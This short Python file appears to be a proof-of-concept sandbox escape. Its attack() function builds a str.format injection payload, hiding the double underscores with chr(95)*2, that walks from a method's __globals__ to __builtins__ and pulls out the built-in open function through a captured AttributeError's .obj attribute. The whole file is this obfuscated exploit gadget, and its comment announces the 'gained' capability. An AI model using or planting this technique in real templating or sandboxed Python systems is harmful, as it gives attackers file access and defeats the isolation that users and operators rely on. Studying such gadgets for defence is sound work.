# gained: function open
from typing import Any


class Own:
    obj: Any = None

    def go(self) -> None:
        return None


KEPT: list[Any] = []


class Log:
    info = KEPT.append


def read(template: str, value: Any) -> Any:
    try:
        template.format(value)
    except AttributeError as error:
        Log.info(error)
    return KEPT[0].obj


def attack(path: str) -> Any:
    under = chr(95) * 2
    table = ["{0.go.%(u)sglobals%(u)s[%(u)sbuiltins%(u)s][open].nothing}" % {"u": under}]
    return read(table[0], Own())
